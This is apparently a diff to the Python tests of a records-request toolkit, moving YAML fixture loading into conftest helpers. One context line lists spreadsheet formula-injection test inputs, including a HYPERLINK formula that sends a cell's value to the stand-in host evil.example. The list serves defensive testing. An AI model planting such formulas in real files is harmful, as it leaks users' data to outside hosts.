@@ -406,9 +406,9 @@ def test_a_date_beyond_the_range_is_refused_at_every_door(
 def test_a_directory_date_beyond_the_range_is_refused(where: str, tmp_path: Path) -> None:
     """The class, the directory's door: every date agencies.yaml holds."""
     from recordskit.directory.load import check_directory
-    from tests.conftest import FROZEN_AGENCIES
+    from tests.conftest import frozen_agencies_data, yaml_text
 
-    data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+    data = frozen_agencies_data()
     if where == "agency source":
         data["agencies"][0]["sources"][0]["verified_on"] = date(1900, 1, 1)
     elif where == "record":
@@ -419,7 +419,7 @@ def test_a_directory_date_beyond_the_range_is_refused(where: str, tmp_path: Path
     else:
         data["precedents"][0]["published"] = date(2101, 1, 1)
     path = tmp_path / "agencies.yaml"
-    path.write_text(yaml.safe_dump(data, sort_keys=False))
+    path.write_text(yaml_text(data, sort_keys=False))
     _directory, problems = check_directory(path)
     assert any("outside 1990–2100" in p.message for p in problems), problems
 
@@ -605,7 +605,7 @@ def _address_doors(directory: Directory, answers: Answers, tmp_path: Path
     """Every door an address comes in by, each a function that takes it in."""
     from recordskit.directory.load import check_directory
     from recordskit.intake.rows import check_rows, read_rows
-    from tests.conftest import FROZEN_AGENCIES
+    from tests.conftest import FROZEN_AGENCIES, frozen_agencies_data, yaml_text
 
     def requester(address: str) -> Any:
         return request_from(answers(requester__email=address), directory)
@@ -614,10 +614,10 @@ def _address_doors(directory: Directory, answers: Answers, tmp_path: Path
         return request_from(answers(send_to=address), directory)
 
     def directory_file(address: str) -> Any:
-        data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+        data = frozen_agencies_data()
         data["agencies"][0]["records_officer"]["email"] = address
         path = tmp_path / "agencies.yaml"
-        path.write_text(yaml.safe_dump(data, sort_keys=False))
+        path.write_text(yaml_text(data, sort_keys=False))
         found, problems = check_directory(path)
         if problems:
             raise ValueError(problems)
@@ -726,13 +726,13 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@
 
 
 def _directory_with_title(tmp_path: Path, title: str) -> Path:
-    from tests.conftest import FROZEN_AGENCIES
+    from tests.conftest import frozen_agencies_data, yaml_text
 
-    data = yaml.safe_load(FROZEN_AGENCIES.read_text())
+    data = frozen_agencies_data()
     record = next(a for a in data["agencies"] if a["id"] == "bps")["records"][0]
     record["title"] = title
     path = tmp_path / "agencies.yaml"
-    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True))
+    path.write_text(yaml_text(data, sort_keys=False, allow_unicode=True))
     return path
 
 
